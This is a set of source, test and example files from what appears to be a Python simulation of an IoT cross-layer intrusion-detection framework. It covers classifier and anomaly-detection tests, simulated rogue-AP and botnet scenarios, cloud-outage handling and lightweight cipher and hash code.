                    Layer.SERVICE, SignalType.EVENT_SPOOFING,
                    "xlf-gateway", owner.name, self.sim.now,
                    severity=Severity.CRITICAL,
                    claimed_device=device_id, actual_sender=packet.src_device,
                ))
        elif kind == "command" and self.app_verifier is not None:
            device = self._address_to_device.get(packet.dst)
            if device is not None and device.device_id:
                self.app_verifier.note_command(
                    device.device_id, payload.get("command", ""))

    def _rebuild_id_index(self) -> None:
        for device in self.devices:
            if device.device_id:
                self._id_to_device[device.device_id] = device

    def _device_by_id(self, device_id: str) -> Optional[IoTDevice]:
        device = self._id_to_device.get(device_id)
        if device is None and device_id:
            # A device may have paired (and received its cloud id) after
            # the index was last built; fold it in on first sight so the
            # per-packet path stays O(1).
            for candidate in self.devices:
                if candidate.device_id == device_id:
                    self._id_to_device[device_id] = candidate
                    return candidate
        return device

    # -- results -----------------------------------------------------------------
    @property
    def alerts(self) -> List[Alert]:
        return list(self.correlator.alerts)

    @property
    def signals(self) -> List[SecuritySignal]:
        return list(self.bus.signals)

    def alerted_devices(self) -> List[str]:
        return sorted({a.device for a in self.alerts if a.device})

    def signal_summary(self) -> Dict[str, int]:
        summary: Dict[str, int] = {}
        for signal in self.bus.signals:
            key = f"{signal.layer.value}:{signal.signal_type.value}"
            summary[key] = summary.get(key, 0) + 1
        return summary
