"""Tests for MKL, graph community learning, and the token policy."""

import numpy as np
import pytest

from repro.core import CoreBus, CrossLayerCorrelator, KernelSpec, MklClassifier
from repro.core.graphlearn import CommunityModel
from repro.core.mkl import kernel_alignment, single_kernel_classifier
from repro.core.policy import TokenLifetimePolicy
from repro.core.signals import Layer, SecuritySignal, Severity, SignalType
from repro.sim import Simulator


def make_dataset(seed=0, n=80):
    """Synthetic cross-layer features: class separates on dims 0-1 (device)
    and 2-3 (network); dims 4-5 are noise (service)."""
    rng = np.random.default_rng(seed)
    y = rng.integers(0, 2, n)
    x = rng.normal(0, 1.0, (n, 6))
    x[:, 0] += 2.0 * y
    x[:, 2] += 2.0 * y
    return x, y


KERNELS = [
    KernelSpec("device", (0, 1), "rbf", gamma=0.5),
    KernelSpec("network", (2, 3), "rbf", gamma=0.5),
    KernelSpec("service-noise", (4, 5), "rbf", gamma=0.5),
]


class TestMkl:
    def test_fit_predict_accuracy(self):
        x, y = make_dataset()
        x_test, y_test = make_dataset(seed=1)
        clf = MklClassifier(KERNELS).fit(x, y)
        assert clf.score(x_test, y_test) > 0.8

    def test_weights_favor_informative_kernels(self):
        x, y = make_dataset()
        clf = MklClassifier(KERNELS).fit(x, y)
        weights = dict(zip([k.name for k in KERNELS], clf.weights_))
        assert weights["device"] > weights["service-noise"]
        assert weights["network"] > weights["service-noise"]
        assert np.isclose(sum(clf.weights_), 1.0)

    def test_mkl_beats_noise_only_kernel(self):
        x, y = make_dataset()
        x_test, y_test = make_dataset(seed=2)
        mkl = MklClassifier(KERNELS).fit(x, y)
        noise_only = single_kernel_classifier(KERNELS[2]).fit(x, y)
        assert mkl.score(x_test, y_test) > noise_only.score(x_test, y_test)

    def test_mkl_at_least_matches_best_single(self):
        x, y = make_dataset()
        x_test, y_test = make_dataset(seed=3)
        mkl_score = MklClassifier(KERNELS).fit(x, y).score(x_test, y_test)
        singles = [
            single_kernel_classifier(k).fit(x, y).score(x_test, y_test)
            for k in KERNELS
        ]
        assert mkl_score >= max(singles) - 0.05  # small tolerance

    def test_unfitted_raises(self):
        with pytest.raises(RuntimeError):
            MklClassifier(KERNELS).predict(np.zeros((1, 6)))

    def test_empty_kernels_rejected(self):
        with pytest.raises(ValueError):
            MklClassifier([])

    def test_label_shape_validated(self):
        with pytest.raises(ValueError):
            MklClassifier(KERNELS).fit(np.zeros((5, 6)), [1, 0])

    def test_linear_kernel(self):
        spec = KernelSpec("lin", (0, 1), "linear")
        x, y = make_dataset()
        clf = MklClassifier([spec]).fit(x, y)
        assert clf.score(x, y) > 0.7

    def test_unknown_kernel_kind(self):
        spec = KernelSpec("bad", (0,), "quantum")
        with pytest.raises(ValueError):
            spec.matrix(np.zeros((2, 3)), np.zeros((2, 3)))

    def test_alignment_sign(self):
        x, y = make_dataset()
        y_signed = np.where(y <= 0, -1.0, 1.0)
        informative = KERNELS[0].matrix(x, x)
        assert kernel_alignment(informative, y_signed) > \
            kernel_alignment(KERNELS[2].matrix(x, x), y_signed)


class TestMklZeroRows:
    """The empty-fleet path: feature_matrix() of no devices yields a
    (0, 0) matrix, which used to crash KernelSpec.matrix on column
    indexing.  Fitting on it is a clear error; predicting is not."""

    def test_feature_matrix_empty_fleet(self):
        from repro.core.mkl import feature_matrix
        names, matrix = feature_matrix({})
        assert names == []
        assert matrix.shape == (0, 0)

    @pytest.mark.parametrize("kind", ["rbf", "linear"])
    def test_kernel_matrix_empty_sides(self, kind):
        spec = KernelSpec("k", (0, 1), kind)
        x = np.zeros((3, 6))
        empty = np.empty((0, 0))
        assert spec.matrix(empty, empty).shape == (0, 0)
        assert spec.matrix(empty, x).shape == (0, 3)
        assert spec.matrix(x, empty).shape == (3, 0)

    def test_fit_on_zero_rows_raises_clearly(self):
        with pytest.raises(ValueError, match="zero samples"):
            MklClassifier(KERNELS).fit(np.empty((0, 0)), [])

    def test_predict_on_zero_rows_returns_empty(self):
        x, y = make_dataset()
        clf = MklClassifier(KERNELS).fit(x, y)
        assert clf.decision_function(np.empty((0, 0))).shape == (0,)
        assert clf.predict(np.empty((0, 0))).shape == (0,)


class TestCommunityModel:
    def build_two_communities(self):
        model = CommunityModel(similarity_scale=2.0, edge_threshold=0.4)
        # Community A: bulbs with similar behaviour.
        for i in range(4):
            model.add_entity(f"bulb-{i}", [1.0 + 0.1 * i, 0.0])
        # Community B: cameras far away in feature space.
        for i in range(4):
            model.add_entity(f"cam-{i}", [10.0 + 0.1 * i, 5.0])
        model.build()
        return model

    def test_communities_found(self):
        model = self.build_two_communities()
        assert len(model.communities) == 2
        members = {frozenset(c) for c in model.communities}
        assert frozenset({f"bulb-{i}" for i in range(4)}) in members

    def test_membership_and_scores(self):
        model = self.build_two_communities()
        assert model.community_of("bulb-0") == model.community_of("bulb-3")
        assert model.community_of("bulb-0") != model.community_of("cam-0")
        assert model.anomaly_score("bulb-0") < 1.0

    def test_deviant_detection(self):
        model = self.build_two_communities()
        # bulb-2 suddenly behaves like a camera.
        deviants = model.deviants(
            threshold=3.0, current={"bulb-2": [10.0, 5.0]})
        names = [name for name, _ in deviants]
        assert names == ["bulb-2"]

    def test_unknown_entity_raises(self):
        model = self.build_two_communities()
        with pytest.raises(KeyError):
            model.anomaly_score("toaster-1")

    def test_similarity_monotone_in_distance(self):
        model = CommunityModel()
        model.add_entity("a", [0.0])
        model.add_entity("b", [0.1])
        model.add_entity("c", [5.0])
        assert model.similarity("a", "b") > model.similarity("a", "c")


class TestTokenLifetimePolicy:
    def test_clean_device_gets_full_lifetime(self):
        bus = CoreBus(Simulator())
        policy = TokenLifetimePolicy(bus, base_lifetime_s=1800.0)
        assert policy.lifetime_for("dev-1", now=100.0) == 1800.0

    def test_risk_shrinks_lifetime(self):
        bus = CoreBus(Simulator())
        policy = TokenLifetimePolicy(bus, base_lifetime_s=1800.0)
        bus.report(SecuritySignal.make(
            Layer.NETWORK, SignalType.SCAN_PATTERN, "t", "dev-1", 50.0,
            severity=Severity.CRITICAL))
        shorter = policy.lifetime_for("dev-1", now=60.0)
        assert shorter < 1800.0
        assert shorter >= policy.min_lifetime_s

    def test_alerts_shrink_more(self):
        bus = CoreBus(Simulator())
        correlator = CrossLayerCorrelator(bus)
        policy = TokenLifetimePolicy(bus, correlator)
        bus.report(SecuritySignal.make(
            Layer.DEVICE, SignalType.AUTH_FAILURE, "t", "dev-1", 10.0))
        signals_only = policy.lifetime_for("dev-1", now=20.0)
        bus.report(SecuritySignal.make(
            Layer.NETWORK, SignalType.SCAN_PATTERN, "t", "dev-1", 12.0,
            severity=Severity.CRITICAL))
        with_alert = policy.lifetime_for("dev-1", now=20.0)
        assert correlator.alerts
        assert with_alert < signals_only

    def test_old_risk_ages_out(self):
        bus = CoreBus(Simulator())
        policy = TokenLifetimePolicy(bus, lookback_s=100.0)
        bus.report(SecuritySignal.make(
            Layer.DEVICE, SignalType.AUTH_FAILURE, "t", "dev-1", 0.0,
            severity=Severity.CRITICAL))
        assert policy.lifetime_for("dev-1", now=1000.0) == \
            policy.base_lifetime_s

    def test_floor_respected(self):
        bus = CoreBus(Simulator())
        policy = TokenLifetimePolicy(bus, min_lifetime_s=60.0)
        for t in range(20):
            bus.report(SecuritySignal.make(
                Layer.NETWORK, SignalType.DDOS_PATTERN, "t", "dev-1",
                float(t), severity=Severity.CRITICAL))
        assert policy.lifetime_for("dev-1", now=20.0) == 60.0
