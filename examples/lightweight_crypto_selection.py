"""Cipher selection per device class (Table I x Table III).

For each device in the paper's Table I catalog: its capability class,
the cipher XLF's encryption policy assigns, and the estimated time to
encrypt one 64-byte telemetry message on that device's clock — the
"computation, storage, and power limit the security functions" claim
made quantitative.

Run:  python examples/lightweight_crypto_selection.py
"""

import time

from repro.crypto import get_cipher
from repro.device.profiles import DEVICE_CATALOG
from repro.metrics import format_table
from repro.security.device.encryption import cipher_for_class

MESSAGE = bytes(range(64))

# Reference cycles-per-byte estimates for software implementations on
# small cores (order-of-magnitude, from the lightweight-crypto
# literature); used to translate on-device cost.
CYCLES_PER_BYTE = {
    "AES": 180.0, "PRESENT": 1100.0, "TEA": 95.0, "XTEA": 110.0,
    "HIGHT": 210.0, "LEA": 55.0, "Seed": 360.0,
}


def python_throughput(cipher_name: str) -> float:
    """Measured pure-Python blocks/sec (the simulator-host view)."""
    cipher = get_cipher(cipher_name)
    block = bytes(cipher.block_size)
    n = 200
    start = time.perf_counter()
    for _ in range(n):
        cipher.encrypt_block(block)
    elapsed = time.perf_counter() - start
    return n * cipher.block_size / elapsed


rows = []
for profile in DEVICE_CATALOG.values():
    spec = cipher_for_class(profile.device_class)
    if spec is None:
        rows.append([profile.name, profile.device_class.value, "(link-layer only)",
                     "-", "-"])
        continue
    cycles = CYCLES_PER_BYTE.get(spec.name, 500.0) * len(MESSAGE)
    on_device_ms = cycles / profile.core_freq_hz * 1000
    rows.append([
        profile.name,
        profile.device_class.value,
        spec.name,
        f"{on_device_ms:.3f} ms",
        f"{python_throughput(spec.name) / 1024:.0f} KiB/s",
    ])

print(format_table(
    ["device (Table I)", "class", "assigned cipher",
     "est. 64B encrypt on-device", "pure-Python throughput"],
    rows,
    title="XLF encryption policy: cipher per device class",
))
