"""Tests for the rickrolling (deauth + rogue AP) attack."""

from repro.attacks import Rickrolling
from repro.core import XLF, XlfConfig
from repro.network.wireless import WirelessSecurity
from repro.scenarios import SmartHome


def test_open_reconnect_policy_gets_hijacked():
    home = SmartHome()
    home.run(60.0)
    attack = Rickrolling(home)
    attack.launch()
    home.run(home.sim.now + 30.0)
    outcome = attack.outcome()
    assert outcome.succeeded
    assert outcome.details["reconnected_to_rogue"]
    assert outcome.details["packets_captured"] > 0
    # The rogue AP sees the victim's telemetry — the privacy violation.
    captured = attack.rogue_ap.captured
    assert any(p.src_device == "voice_assistant-1" for p in captured)


def test_ppsk_client_policy_refuses_open_networks():
    home = SmartHome()
    home.run(60.0)
    wlan = home.lan_links["wifi"]
    home_security = WirelessSecurity(wlan, mode="ppsk")
    home_security.enroll("voice_assistant-1")
    attack = Rickrolling(home, home_wireless=home_security)
    attack.launch()
    home.run(home.sim.now + 30.0)
    outcome = attack.outcome()
    assert not outcome.succeeded
    assert not outcome.details["reconnected_to_rogue"]


def test_silence_audit_notices_the_hijacked_device():
    home = SmartHome()
    home.run(5.0)
    xlf = XLF(home.sim, home.gateway, home.cloud, home.devices,
              home.all_lan_links, XlfConfig.full())
    xlf.refresh_allowlists()
    home.run(300.0)  # learn cadence baselines
    attack = Rickrolling(home)
    attack.launch()
    home.run(home.sim.now + 400.0)
    silent = xlf.analytics.audit_silence()
    # The voice assistant's telemetry stopped reaching the home side.
    device_id = home.device_ids["voice_assistant-1"]
    assert any(device_id in s or "voice_assistant" in s for s in silent) \
        or any(d == device_id or "voice_assistant" in d
               for _t, d, kind in xlf.analytics.anomalies
               if kind == "device-silent")
