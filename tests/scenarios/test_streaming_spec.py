"""Spec-level guarantees for streaming detection.

Two contracts ride on the streaming plugin being a pure *addition*:

* **Alert identity** — attaching the drift detector never changes the
  correlator's alert content.  Drift signals are advisory
  (``BEHAVIOR_DEVIATION`` from source ``streaming-drift``); the rules
  that fire alerts on the shipped presets are already saturated by the
  layer monitors, so the alert stream must be byte-identical with and
  without streaming, on both the per-home fast path and the cross-home
  lockstep exchange engine.

* **Determinism** — the serial == parallel == journal-replay
  byte-identity contract (DESIGN.md) must survive streaming: the
  refresh loop runs on the event clock, so observations and journal
  alert streams stay identical across engines.
"""

import json

import pytest

from repro import telemetry
from repro.core import XlfConfig
from repro.core.streaming import StreamingConfig
from repro.runtime import read_journal
from repro.runtime.replay import replay_journal
from repro.scenarios import AttackSpec, HomeSpec, ScenarioSpec, run_spec
from repro.scenarios.spec import fork_available
from repro.server.store import canonical_json, result_to_dict

needs_fork = pytest.mark.skipif(not fork_available(),
                                reason="platform lacks fork start method")


def streamed_xlf(**overrides):
    config = XlfConfig.full()
    config.streaming = StreamingConfig(**overrides)
    return config


def botnet_spec(duration_s=120.0, n_homes=2, seed=3, xlf=None):
    return ScenarioSpec(
        name="streaming-spec-test", seed=seed, warmup_s=5.0,
        duration_s=duration_s,
        homes=[HomeSpec() for _ in range(n_homes)],
        attacks=[AttackSpec(attack="mirai-botnet", home=0,
                            params={"run_ddos": False})],
        xlf=xlf or streamed_xlf(), epoch_s=30.0)


def load_preset(name, duration_s, n_homes=None, streaming=False):
    with open(f"examples/specs/{name}.json") as handle:
        data = json.load(handle)
    data["duration_s"] = duration_s
    data["collect_features"] = False
    if n_homes is not None:
        data["homes"] = data["homes"][:n_homes]
    spec = ScenarioSpec.from_dict(data)
    if streaming:
        spec.xlf.streaming = StreamingConfig()
    return spec


def alerts_json(result):
    return canonical_json(result_to_dict(result)["observations"]["alerts"])


def observations(result):
    return canonical_json(result_to_dict(result)["observations"])


def alert_stream(path):
    return [(r["n"], r["home"], canonical_json(r["alert"]))
            for r in read_journal(path) if r["t"] == "alert"]


class TestAlertIdentity:
    @pytest.mark.parametrize("preset", ["botnet", "faulty_home"])
    def test_preset_alerts_unchanged_by_streaming(self, preset):
        base = run_spec(load_preset(preset, 150.0))
        streamed = run_spec(load_preset(preset, 150.0, streaming=True))
        assert base.alerts, "preset must raise alerts for the check to bite"
        assert alerts_json(streamed) == alerts_json(base)

    def test_worm_fleet_exchange_engine_alerts_unchanged(self):
        """The cross-home lockstep engine with streaming attached: the
        worm's first alerts land around t=182, so the shortened fleet
        must still run past that."""
        base = run_spec(load_preset("worm_fleet", 190.0, n_homes=3))
        streamed = run_spec(load_preset("worm_fleet", 190.0, n_homes=3,
                                        streaming=True))
        assert base.alerts
        assert alerts_json(streamed) == alerts_json(base)


class TestStreamingDeterminism:
    @needs_fork
    def test_serial_parallel_journal_identical(self, tmp_path):
        spec = botnet_spec()
        serial = run_spec(spec, journal=str(tmp_path / "serial.jsonl"))
        par = run_spec(spec, workers=2,
                       journal=str(tmp_path / "par.jsonl"))
        assert serial.alerts
        assert observations(par) == observations(serial)
        stream = alert_stream(tmp_path / "serial.jsonl")
        assert stream
        assert alert_stream(tmp_path / "par.jsonl") == stream

    def test_replay_reproduces_streaming_run(self, tmp_path):
        path = tmp_path / "run.jsonl"
        result = run_spec(botnet_spec(n_homes=1), journal=str(path))
        assert result.alerts
        report = replay_journal(path)
        assert report.ok
        assert report.mismatches == []
        assert len(report.replayed) == report.recorded_alerts

    def test_repeat_runs_byte_identical(self):
        spec = botnet_spec(n_homes=1)
        assert observations(run_spec(spec)) == observations(run_spec(spec))


class TestStreamingTelemetry:
    def test_refresh_counters_surface_in_run_telemetry(self):
        telemetry.enable()
        try:
            result = run_spec(botnet_spec(n_homes=1))
        finally:
            telemetry.disable()
            telemetry.reset()
        assert result.telemetry is not None
        counters = {"/".join(map(str, key)) if isinstance(key, tuple)
                    else str(key): value
                    for key, value in
                    result.telemetry.snapshot()["counters"].items()}
        refreshes = [v for k, v in counters.items()
                     if "core.streaming.refreshes" in k]
        assert refreshes and refreshes[0] > 0
