"""SEED — Korean 128-bit Feistel cipher (structure-faithful variant).

Parameters match the published SEED exactly: 128-bit block, 128-bit key,
16 Feistel rounds, a G-function built from two 8-bit S-boxes feeding a
32-bit diffusion layer.  The published SEED derives its S-boxes from
x^247 and x^251 over GF(2^8) with cipher-specific affine constants; this
variant generates its S-boxes from the same construction family
(GF(2^8) power maps) but without the original affine constants, so it is
registered ``validated=False``.  Round-count, structure, block/key sizes
and therefore all performance characteristics are preserved.
"""

from __future__ import annotations

from repro.crypto.base import BlockCipher, bytes_to_words, words_to_bytes

_MASK32 = 0xFFFFFFFF
_KC = [  # round constants: golden-ratio recurrence as in the SEED spec
    0x9E3779B9,
]
for _ in range(15):
    _KC.append(((_KC[-1] << 1) | (_KC[-1] >> 31)) & _MASK32)


def _gf_pow(base: int, exponent: int) -> int:
    """Exponentiation in GF(2^8) mod x^8+x^4+x^3+x+1."""

    def mul(a, b):
        r = 0
        for _ in range(8):
            if b & 1:
                r ^= a
            carry = a & 0x80
            a = (a << 1) & 0xFF
            if carry:
                a ^= 0x1B
            b >>= 1
        return r

    result = 1
    for _ in range(exponent):
        result = mul(result, base)
    return result


def _power_sbox(exponent: int, offset: int):
    box = [( _gf_pow(x, exponent) ^ offset) & 0xFF if x else offset for x in range(256)]
    return box


_S1 = _power_sbox(247, 0xA9)
_S2 = _power_sbox(251, 0x38)


def _g(x: int) -> int:
    b0 = _S1[x & 0xFF]
    b1 = _S2[(x >> 8) & 0xFF]
    b2 = _S1[(x >> 16) & 0xFF]
    b3 = _S2[(x >> 24) & 0xFF]
    # SEED's diffusion masks.
    m0, m1, m2, m3 = 0xFC, 0xF3, 0xCF, 0x3F
    z0 = (b0 & m0) ^ (b1 & m1) ^ (b2 & m2) ^ (b3 & m3)
    z1 = (b0 & m1) ^ (b1 & m2) ^ (b2 & m3) ^ (b3 & m0)
    z2 = (b0 & m2) ^ (b1 & m3) ^ (b2 & m0) ^ (b3 & m1)
    z3 = (b0 & m3) ^ (b1 & m0) ^ (b2 & m1) ^ (b3 & m2)
    return (z3 << 24) | (z2 << 16) | (z1 << 8) | z0


def _f(half_hi: int, half_lo: int, k0: int, k1: int):
    """SEED F-function: returns the two 32-bit output words."""
    c = half_hi ^ k0
    d = half_lo ^ k1
    d ^= c
    d = _g(d)
    c = (c + d) & _MASK32
    c = _g(c)
    d = (d + c) & _MASK32
    d = _g(d)
    c = (c + d) & _MASK32
    return c, d


class Seed(BlockCipher):
    """SEED (structure-faithful)."""

    name = "Seed"
    block_size_bits = 128
    key_size_bits = (128,)
    structure = "Feistel"
    num_rounds = 16

    def _setup(self, key: bytes) -> None:
        a, b, c, d = bytes_to_words(key, 4)
        subkeys = []
        for i in range(16):
            k0 = _g((a + c - _KC[i]) & _MASK32)
            k1 = _g((b - d + _KC[i]) & _MASK32)
            subkeys.append((k0, k1))
            if i % 2 == 0:
                # Rotate the (a,b) pair right by 8 bits as a 64-bit unit.
                combined = (a << 32) | b
                combined = ((combined >> 8) | (combined << 56)) & ((1 << 64) - 1)
                a, b = combined >> 32, combined & _MASK32
            else:
                combined = (c << 32) | d
                combined = ((combined << 8) | (combined >> 56)) & ((1 << 64) - 1)
                c, d = combined >> 32, combined & _MASK32
        self._subkeys = subkeys

    def encrypt_block(self, block: bytes) -> bytes:
        w = bytes_to_words(self._check_block(block), 4)
        left_hi, left_lo, right_hi, right_lo = w
        for k0, k1 in self._subkeys:
            f_hi, f_lo = _f(right_hi, right_lo, k0, k1)
            new_right_hi = left_hi ^ f_hi
            new_right_lo = left_lo ^ f_lo
            left_hi, left_lo = right_hi, right_lo
            right_hi, right_lo = new_right_hi, new_right_lo
        # Undo the last swap, per Feistel convention.
        return words_to_bytes([right_hi, right_lo, left_hi, left_lo], 4)

    def decrypt_block(self, block: bytes) -> bytes:
        w = bytes_to_words(self._check_block(block), 4)
        left_hi, left_lo, right_hi, right_lo = w
        for k0, k1 in reversed(self._subkeys):
            f_hi, f_lo = _f(right_hi, right_lo, k0, k1)
            new_right_hi = left_hi ^ f_hi
            new_right_lo = left_lo ^ f_lo
            left_hi, left_lo = right_hi, right_lo
            right_hi, right_lo = new_right_hi, new_right_lo
        return words_to_bytes([right_hi, right_lo, left_hi, left_lo], 4)
