"""Lightweight hash constructions (paper §IV-A.2 / NIST LWC report).

Two constructions built from the cipher suite itself:

* :class:`DaviesMeyerHash` — Merkle–Damgård over a Davies–Meyer
  compression function instantiated with any block cipher whose key size
  is at least its block size (the classic route to a hash on a device
  that already carries a cipher).
* :class:`SpongeHash` — a sponge whose permutation is a fixed-key
  instance of PRESENT, the SPONGENT design pattern.

These are the hashes the XLF framework uses for firmware fingerprints
and message digests on constrained devices; they are not claimed to be
collision-resistant at modern security margins.
"""

from __future__ import annotations

from typing import Type

from repro.crypto.base import BlockCipher, CryptoError, xor_bytes
from repro.crypto.present import Present


def _md_pad(message: bytes, block_size: int) -> bytes:
    """Merkle–Damgård strengthening: 0x80, zeros, 8-byte length."""
    length = len(message)
    padded = message + b"\x80"
    while (len(padded) + 8) % block_size:
        padded += b"\x00"
    return padded + (length * 8).to_bytes(8, "big")


class DaviesMeyerHash:
    """H_i = E_{m_i}(H_{i-1}) xor H_{i-1}; digest = final chaining value."""

    def __init__(self, cipher_cls: Type[BlockCipher] = Present, key_bits: int = None):
        self.cipher_cls = cipher_cls
        self.key_bits = key_bits or max(cipher_cls.key_size_bits)
        if self.key_bits not in cipher_cls.key_size_bits:
            raise CryptoError(f"{cipher_cls.name} does not support {self.key_bits}-bit keys")
        self.block_size = cipher_cls.block_size_bits // 8
        self.key_size = self.key_bits // 8
        self.digest_size = self.block_size

    def digest(self, message: bytes) -> bytes:
        chaining = bytes(self.block_size)  # all-zero IV
        padded = _md_pad(message, self.key_size)
        for i in range(0, len(padded), self.key_size):
            block_key = padded[i : i + self.key_size]  # noqa: E203
            encrypted = self.cipher_cls(block_key).encrypt_block(chaining)
            chaining = xor_bytes(encrypted, chaining)
        return chaining

    def hexdigest(self, message: bytes) -> str:
        return self.digest(message).hex()


class SpongeHash:
    """Sponge over the PRESENT permutation (SPONGENT pattern).

    State = cipher block (64 bits is small; we chain two lanes for a
    128-bit state with a 32-bit rate), absorbing then squeezing
    ``digest_size`` bytes.
    """

    RATE = 4  # bytes absorbed/squeezed per permutation call
    digest_size = 16

    def __init__(self, digest_size: int = 16):
        if digest_size < 8 or digest_size > 64:
            raise CryptoError("digest size must be 8..64 bytes")
        self.digest_size = digest_size
        # Fixed-key PRESENT instances act as two independent permutations.
        self._perm_a = Present(bytes(10))
        self._perm_b = Present(bytes([0x5C] * 10))

    def _permute(self, state: bytes) -> bytes:
        a = self._perm_a.encrypt_block(state[:8])
        b = self._perm_b.encrypt_block(state[8:])
        # Cross-mix the lanes so the state acts as one 128-bit permutation.
        return b + xor_bytes(a, b)

    def digest(self, message: bytes) -> bytes:
        state = bytes(16)
        padded = message + b"\x01"
        while len(padded) % self.RATE:
            padded += b"\x00"
        for i in range(0, len(padded), self.RATE):
            chunk = padded[i : i + self.RATE]  # noqa: E203
            state = xor_bytes(state[: self.RATE], chunk) + state[self.RATE :]  # noqa: E203
            state = self._permute(state)
        out = b""
        while len(out) < self.digest_size:
            out += state[: self.RATE]
            state = self._permute(state)
        return out[: self.digest_size]

    def hexdigest(self, message: bytes) -> str:
        return self.digest(message).hex()


def lightweight_digest(message: bytes, flavor: str = "sponge") -> bytes:
    """Convenience wrapper used throughout the framework."""
    if flavor == "sponge":
        return SpongeHash().digest(message)
    if flavor == "davies-meyer":
        return DaviesMeyerHash().digest(message)
    raise CryptoError(f"unknown hash flavor {flavor!r}")
