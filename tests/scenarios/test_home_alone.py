"""Gateway-local "home alone" mode under cloud outages.

The contract (DESIGN.md "Actor runtime & journal"): when a cloud-outage
fault isolates a gateway, the home drops to a gateway-local XLF
configuration — service-layer functions disabled, local layers and the
correlator still running — keeps detecting through the outage, and
re-synchronises its journaled observations to the cloud on recovery.
Determinism is preserved: serial and sharded runs stay byte-identical.
"""

import json

import pytest

from repro.core import XLF, Layer, XlfConfig
from repro.scenarios import ScenarioSpec, SmartHome, SmartHomeConfig, run_spec
from repro.scenarios.spec import fork_available
from repro.server.store import canonical_json, result_to_dict

needs_fork = pytest.mark.skipif(not fork_available(),
                                reason="platform lacks fork start method")


def observations(result):
    return canonical_json(result_to_dict(result)["observations"])


# -- state-machine unit tests ------------------------------------------------

class TestHomeAloneStateMachine:
    def build(self, home_alone=True, config=None):
        home = SmartHome(SmartHomeConfig())
        home.run(5.0)
        if config is None:
            config = XlfConfig.full()
            config.home_alone = home_alone
        return XLF(home.sim, home.gateway, home.cloud, home.devices,
                   home.all_lan_links, config)

    def test_enter_disables_service_layer_and_flags_gateway(self):
        xlf = self.build()
        assert not xlf.home_alone
        xlf.enter_home_alone()
        assert xlf.home_alone
        assert not xlf.config.enable_service_layer
        assert xlf.gateway.local_mode
        assert len(xlf.home_alone_events) == 1
        assert xlf.home_alone_events[0].exited_at is None

    def test_exit_restores_service_layer_and_stamps_window(self):
        xlf = self.build()
        xlf.enter_home_alone()
        xlf.sim.now = 50.0
        xlf.exit_home_alone()
        assert not xlf.home_alone
        assert xlf.config.enable_service_layer
        assert not xlf.gateway.local_mode
        window = xlf.home_alone_events[0]
        assert window.exited_at == 50.0
        assert window.resynced_signals >= 0

    def test_overlapping_outages_merge_into_one_window(self):
        xlf = self.build()
        xlf.enter_home_alone()
        xlf.enter_home_alone()          # second overlapping outage
        assert len(xlf.home_alone_events) == 1
        xlf.exit_home_alone()
        assert xlf.home_alone           # still isolated: one fault left
        xlf.exit_home_alone()
        assert not xlf.home_alone
        assert len(xlf.home_alone_events) == 1

    def test_disabled_config_never_enters(self):
        xlf = self.build(home_alone=False)
        xlf.enter_home_alone()
        assert not xlf.home_alone
        assert xlf.home_alone_events == []
        xlf.exit_home_alone()           # must not underflow or raise

    def test_resync_reports_to_cloud(self):
        xlf = self.build()
        xlf.enter_home_alone()
        before = xlf.cloud.resynced_observations
        xlf.exit_home_alone()
        assert xlf.cloud.resynced_observations >= before

    def test_service_layer_stays_disabled_if_it_was_disabled(self):
        config = XlfConfig.full()
        config.enable_service_layer = False
        xlf = self.build(config=config)
        xlf.enter_home_alone()
        xlf.exit_home_alone()
        assert not config.enable_service_layer


# -- fleet-scale scenario (the ISSUE acceptance test) ------------------------

def outage_worm_spec(home_alone=True):
    """The worm fleet with a mid-worm cloud outage on 2 of 8 homes."""
    data = json.load(open("examples/specs/worm_fleet.json"))
    data["name"] = "worm-home-alone"
    data["duration_s"] = 200.0
    data["collect_features"] = False
    data["faults"] = [
        {"fault": "cloud-outage", "home": 3, "at": 120.0,
         "duration_s": 60.0},
        {"fault": "cloud-outage", "home": 5, "at": 120.0,
         "duration_s": 60.0},
    ]
    data["xlf"] = dict(data["xlf"], home_alone=home_alone)
    return ScenarioSpec.from_dict(data)


class TestHomeAloneMidWorm:
    @pytest.fixture(scope="class")
    def serial(self):
        return run_spec(outage_worm_spec())

    def test_isolated_homes_still_alert_during_outage(self, serial):
        """The point of home-alone mode: detection does not stop when
        the cloud goes away."""
        windows = {e.home: e for e in serial.home_alone_events}
        assert set(windows) == {3, 5}
        for index in (3, 5):
            window = windows[index]
            home = serial.homes[index]
            during = [a for a in home.alerts
                      if window.entered_at <= a.timestamp
                      <= window.exited_at]
            assert during, f"home {index} raised no alerts mid-outage"
            # The correlator may still use service-layer signals from
            # *before* the outage (its local history survives), but no
            # new service-layer signal can appear while isolated.
            assert all(signal.layer is not Layer.SERVICE
                       for alert in during
                       for signal in alert.contributing_signals
                       if signal.timestamp > window.entered_at)

    def test_windows_match_fault_schedule(self, serial):
        for event in serial.home_alone_events:
            assert event.entered_at == 150.0     # warmup 30 + at 120
            assert event.exited_at == 210.0      # + duration 60
            assert event.resynced_signals > 0
            assert event.deferred_wan_packets > 0

    def test_recall_no_worse_than_legacy_degraded_path(self, serial):
        """Home-alone homes must detect at least everything the
        pre-refactor stale-marking path detected."""
        legacy = run_spec(outage_worm_spec(home_alone=False))
        assert serial.infected == legacy.infected
        for index in (3, 5):
            new = serial.homes[index]
            old = legacy.homes[index]
            assert {a.device for a in new.alerts} >= \
                {a.device for a in old.alerts}
            assert len(new.alerts) >= len(old.alerts)

    @needs_fork
    def test_serial_and_sharded_byte_identical(self, serial):
        par = run_spec(outage_worm_spec(), workers=2)
        assert observations(serial) == observations(par)

    def test_home_alone_windows_serialized_in_observations(self, serial):
        payload = result_to_dict(serial)
        windows = payload["observations"]["home_alone"]
        assert [w["home"] for w in windows] == [3, 5]
        assert all(w["resynced_signals"] > 0 for w in windows)

    def test_legacy_mode_records_no_windows(self):
        legacy = run_spec(outage_worm_spec(home_alone=False))
        assert legacy.home_alone_events == []
        assert result_to_dict(legacy)["observations"]["home_alone"] == []
