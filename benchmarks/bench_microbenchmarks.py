"""Micro-benchmarks of the substrate hot paths.

Not a paper artifact — engineering telemetry for the reproduction
itself: how fast the event kernel, the gateway NAT path, the cipher
block ops, and the correlator run.  These are the knobs that bound how
large a world the laptop-scale simulation can carry.
"""

from repro.core import CoreBus, CrossLayerCorrelator
from repro.core.signals import Layer, SecuritySignal, Severity, SignalType
from repro.crypto import get_cipher
from repro.network import Gateway, Link, Node, Packet
from repro.security.network.fingerprint import levenshtein
from repro.sim import Simulator


def test_kernel_event_throughput(benchmark):
    def schedule_and_run():
        sim = Simulator()
        for i in range(2000):
            sim.timeout(i * 0.001)
        sim.run()
